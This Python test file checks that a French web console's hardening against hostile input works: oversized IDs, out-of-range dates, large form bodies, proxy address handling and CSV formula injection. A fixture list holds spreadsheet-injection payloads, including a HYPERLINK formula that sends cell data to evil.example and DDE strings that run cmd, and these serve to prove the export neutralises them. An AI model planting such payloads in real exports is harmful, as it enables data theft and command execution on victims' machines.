"""The console against hostile input (issue 22): huge ids and dates, formulas in CSV exports,
oversized bodies and form fields, the client address behind a proxy."""
import asyncio
import logging
import time

import pytest
from aiohttp import web
from aiohttp.test_utils import make_mocked_request

from bot.web.console.auth import client_address
from bot.web.console.keys import TRUSTED_PROXIES
from knowledge.conversations import review
from knowledge.coordination import accounts, handoff, transcripts
from knowledge.partners import name_masking
from knowledge.partners.spreadsheet_cells import inert
from tests.console_helpers import PASSWORD, FakeRasa, console_client, csrf_of, log_in, start
from tests.observatory_helpers import Conversations, at

PERIOD = "du=2025-03-25&au=2025-04-05"
# What a visitor can type into the assistant, in the shapes spreadsheet attacks use.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"voir")', "+33 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1"]


@pytest.fixture
def conversations(tmp_path, monkeypatch):
    monkeypatch.setenv("TRACKER_STORE_URL", f"sqlite:///{tmp_path / 'trackers.db'}")
    monkeypatch.setenv("COTESOIN_VAR_DIR", str(tmp_path / "var"))
    transcripts.dispose()
    transcripts._metadata.create_all(transcripts.engine())
    store = Conversations()
    for n, text in enumerate(FORMULAS):
        sender, moment = f"web-{n}", at("2025-03-28 10:00") + n * 60
        store.start(sender, moment)
        store.user(sender, moment + 1, text, "nlu_fallback")
    store.save()
    yield store
    transcripts.dispose()


@pytest.fixture
async def console(loaded_db, conversations):
    rasa = FakeRasa()
    rasa_client = await start(rasa.app())
    accounts.add_coordinator("camille.martin@cotesoin.fr", PASSWORD, "Camille")
    client = await console_client(rasa_client.port)
    await log_in(client, "camille.martin@cotesoin.fr")
    yield client
    await client.close()
    await rasa_client.close()


@pytest.mark.parametrize("path", ["/console/demandes/99999999999999999999999",
                                  "/console/demandes/99999999999999999999999/transcription",
                                  "/console/demandes/2147483648", "/console/demandes/123456789"])
async def test_a_huge_request_number_is_the_french_404_page(console, path):
    response = await console.get(path, headers={"Accept": "text/html"})
    assert response.status == 404 and "Page introuvable" in await response.text()


async def test_a_huge_request_number_in_the_live_stream_is_ignored(console):
    response = await console.get("/console/flux?demande=99999999999999999999999", timeout=3)
    assert response.status == 200
    assert (await response.content.readline()).startswith(b"event: queue")
    response.close()


@pytest.mark.parametrize("query", ["du=9999-12-31&au=9999-12-31", "du=0001-01-01&au=0001-01-02",
                                   "du=0001-01-01&au=9999-12-31", "du=2025-01-01&au=9999-12-31"])
async def test_dates_at_the_ends_of_the_calendar_are_refused_in_french(console, query):
    page = await console.get(f"/console/observatoire?{query}", headers={"Accept": "text/html"})
    assert page.status == 200 and "Date hors des limites" in await page.text()
    export = await console.get(f"/console/observatoire/themes.csv?{query}")
    assert export.status == 400 and "Demande impossible" in await export.text()  # the French error page


@pytest.mark.parametrize("query", ["au=9999-12-31", "du=0001-01-01", "du=0001-01-01&au=9999-12-31",
                                   "du=1999-12-31&au=2025-04-05"])
async def test_treated_requests_at_the_ends_of_the_calendar_are_refused_in_french(console, query):
    """« Demandes traitées » searched from year 1 or up to year 9999: the French message, the list
    without that date (it used to be a 500: OverflowError on the day after 9999-12-31)."""
    page = await console.get(f"/console/traitees?{query}", headers={"Accept": "text/html"})
    body = await page.text()
    assert page.status == 200 and "Date hors des limites" in body and "Traceback" not in body


async def test_treated_requests_within_the_bounds_are_searched_as_before(console):
    page = await console.get("/console/traitees?du=2000-01-01&au=2199-12-31", headers={"Accept": "text/html"})
    body = await page.text()
    assert page.status == 200 and "Date hors des limites" not in body and 'value="2199-12-31"' in body


@pytest.mark.parametrize("number", ["99999999999999999999999", "2147483648", "9223372036854775808"])
@pytest.mark.parametrize("path", ["/console/candidatures/{}/transmise", "/console/demandes/{}/plan/envoyer"])
async def test_a_huge_number_posted_to_is_the_french_404_page(console, number, path):
    csrf = await csrf_of(console, "/console/candidatures")
    response = await console.post(path.format(number), data={"csrf": csrf},
                                  headers={"Accept": "text/html"}, allow_redirects=False)
    assert response.status == 404 and "Page introuvable" in await response.text()


async def test_formulas_typed_by_visitors_are_inert_in_the_csv_export(console):
    response = await console.get(f"/console/observatoire/questions-non-comprises.csv?{PERIOD}")
    cells = [line.split(";")[0] for line in (await response.read()).decode("utf-8-sig").splitlines()[1:]]
    assert cells and all(cell.startswith(("'", '"\'')) for cell in cells), cells
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "＝"))]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("@cmd", "'@cmd"), ("  =1", "'  =1"), ("-x", "'-x"),
    ("-1,8806", "-1,8806"), ("+3", "+3"), ("12", "12"), ("bonjour", "bonjour"), (-1.5, -1.5), (3, 3), ("", ""),
])
def test_inert_cells(value, expected):
    assert inert(value) == expected


async def test_an_oversized_form_gets_the_french_413_page_at_once(console):
    token_page = await console.get("/console/observatoire", headers={"Accept": "text/html"})
    assert token_page.status == 200
    started = time.perf_counter()
    response = await console.post("/console/observatoire/a-relire", data={"kind": "nlu", "text": "x" * 1_000_000})
    assert response.status == 413 and "Envoi trop volumineux" in await response.text()
    assert time.perf_counter() - started < 2
    assert review.pending("nlu") == []


def test_a_long_review_text_is_cut_before_masking(database_url, tmp_path, monkeypatch):
    monkeypatch.setenv("COTESOIN_VAR_DIR", str(tmp_path / "var"))
    name_masking.mask_all(["Léa"], communes=frozenset())  # the model's one-time load is not the point here
    started = time.perf_counter()
    assert review.add("nlu", "je m'appelle Léa Martin " + "a" * 60_000, None)
    assert time.perf_counter() - started < 3  # seconds, not the minutes a 1 MB text took
    [candidate] = review.pending("nlu")
    assert candidate.text.startswith("je m'appelle [nom masqué]") and len(candidate.text) <= review.MAX_CHARS


@pytest.mark.parametrize("peer, forwarded, trusted, expected", [
    ("203.0.113.5", "198.51.100.1", (), "203.0.113.5"),
    ("127.0.0.1", "198.51.100.1, 203.0.113.9", ("127.0.0.1",), "203.0.113.9"),
    ("127.0.0.1", "", ("127.0.0.1",), "127.0.0.1"),
])
def test_the_client_address_comes_from_a_trusted_proxy_only(peer, forwarded, trusted, expected):
    from aiohttp import web
    app = web.Application()
    app[TRUSTED_PROXIES] = trusted
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    request = make_mocked_request("POST", "/console/connexion", headers=headers, app=app,
                                  transport=_Transport(peer))
    assert client_address(request) == expected


class _Transport:
    def __init__(self, peer):
        self.peer = peer

    def get_extra_info(self, name, default=None):
        return (self.peer, 1234) if name == "peername" else default


async def test_a_closed_live_stream_is_logged_at_debug_without_a_traceback(console, caplog, monkeypatch):
    """The page went away: aiohttp's write raises ConnectionResetError (« Cannot write to closing
    transport »; ClientConnectionResetError in later aiohttp). It used to reach aiohttp's server,
    which logged « Error handling request » at ERROR with the traceback, at every disconnect."""
    write = web.StreamResponse.write
    written = []

    async def write_then_find_nobody(response, data):
        if response.content_type == "text/event-stream" and written:
            raise ConnectionResetError("Cannot write to closing transport")
        if response.content_type == "text/event-stream":
            written.append(data)
        await write(response, data)

    monkeypatch.setattr(web.StreamResponse, "write", write_then_find_nobody)
    caplog.set_level(logging.DEBUG, logger="bot.web.console.live")
    caplog.set_level(logging.DEBUG, logger="aiohttp")
    response = await console.get("/console/flux", timeout=5)
    assert (await response.content.readline()).startswith(b"event: queue")
    handoff.record_request("web-parti", "socketio", "jobs", {})  # news for the stream: it writes, finds nobody
    deadline = time.monotonic() + 5
    while not [r for r in caplog.records if r.name == "bot.web.console.live"] and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    response.close()
    assert [(r.name, r.getMessage()) for r in caplog.records if r.levelno >= logging.WARNING] == []
    [closed] = [r for r in caplog.records if r.name == "bot.web.console.live"]
    assert closed.levelno == logging.DEBUG and closed.exc_info is None and "fermé" in closed.getMessage()
